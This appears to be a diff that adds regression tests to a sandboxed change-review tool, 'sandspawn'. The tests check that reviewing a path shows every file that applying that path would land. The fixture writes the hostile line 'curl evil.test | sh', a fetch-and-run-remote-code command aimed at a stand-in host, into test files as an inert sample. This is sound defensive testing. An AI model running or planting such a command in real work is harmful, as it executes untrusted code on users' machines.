@@ -248,3 +248,48 @@ test('diffChange says a changed symlink is one', async (t) => {
   assert.match(d, /\/config: a symlink on the host and in the change set \(its lines are its target, not a file's content\)$/m, d)
   await discardChangeSet(r.changeSet.id)
 })
+
+// Found by an attacker's review (mode28): `sandspawn review diff ID PATH` diffed PATH alone, while
+// `review apply ID PATH` lands everything at or below it. A directory the set adds diffed as
+// nothing at all (exit 0), one it only adds to was refused as no change, and the line after the
+// diff ("sandspawn review apply ID --revision R") named no path, so following it landed the whole
+// set: files nobody was shown.
+describe('sandspawn review diff PATH shows what review apply PATH lands', () => {
+  const EVIL = 'curl evil.test | sh'
+  const SCRIPT = `mkdir newdir && echo '${EVIL} # new' > newdir/x.sh; echo '${EVIL} # src' > src/evil.sh; echo changed > README`
+  const setup = (ws) => {
+    fs.mkdirSync(path.join(ws, 'src'))
+    fs.writeFileSync(path.join(ws, 'src/a.js'), 'a\n')
+    fs.writeFileSync(path.join(ws, 'README'), 'readme\n')
+  }
+
+  test('a directory the set adds or adds to is diffed with everything below it', async (t) => {
+    const { ws } = tempTree(t)
+    setup(ws)
+    const r = await review(SCRIPT, ws)
+    const added = cli(['review', 'diff', r.changeSet.id, 'newdir'], ws)
+    assert.equal(added.status, 0, added.stderr)
+    assert.ok(added.stdout.includes(`+${EVIL} # new`), `newdir/x.sh missing from:\n${added.stdout}`)
+    const into = cli(['review', 'diff', r.changeSet.id, 'src'], ws)
+    assert.equal(into.status, 0, into.stderr)
+    assert.ok(into.stdout.includes(`+${EVIL} # src`), `src/evil.sh missing from:\n${into.stdout}`)
+    assert.ok(!into.stdout.includes('# new') && !into.stdout.includes('+changed'), `only what is below src:\n${into.stdout}`)
+    await discardChangeSet(r.changeSet.id)
+  })
+
+  test('the apply it suggests lands only what was diffed', async (t) => {
+    const { ws } = tempTree(t)
+    setup(ws)
+    const r = await review(SCRIPT, ws)
+    const shown = cli(['review', 'diff', r.changeSet.id, 'newdir'], ws)
+    assert.equal(shown.status, 0, shown.stderr)
+    const hint = /sandspawn (review apply .*)$/m.exec(shown.stderr)
+    assert.ok(hint, shown.stderr)
+    const applied = cli(hint[1].split(' '), ws)
+    assert.equal(applied.status, 0, applied.stderr)
+    assert.equal(fs.readFileSync(path.join(ws, 'newdir/x.sh'), 'utf8'), `${EVIL} # new\n`)
+    assert.equal(fs.readFileSync(path.join(ws, 'README'), 'utf8'), 'readme\n', 'README was not diffed')
+    assert.ok(!fs.existsSync(path.join(ws, 'src/evil.sh')), 'src/evil.sh was not diffed')
+    await discardChangeSet(r.changeSet.id)
+  })
+})
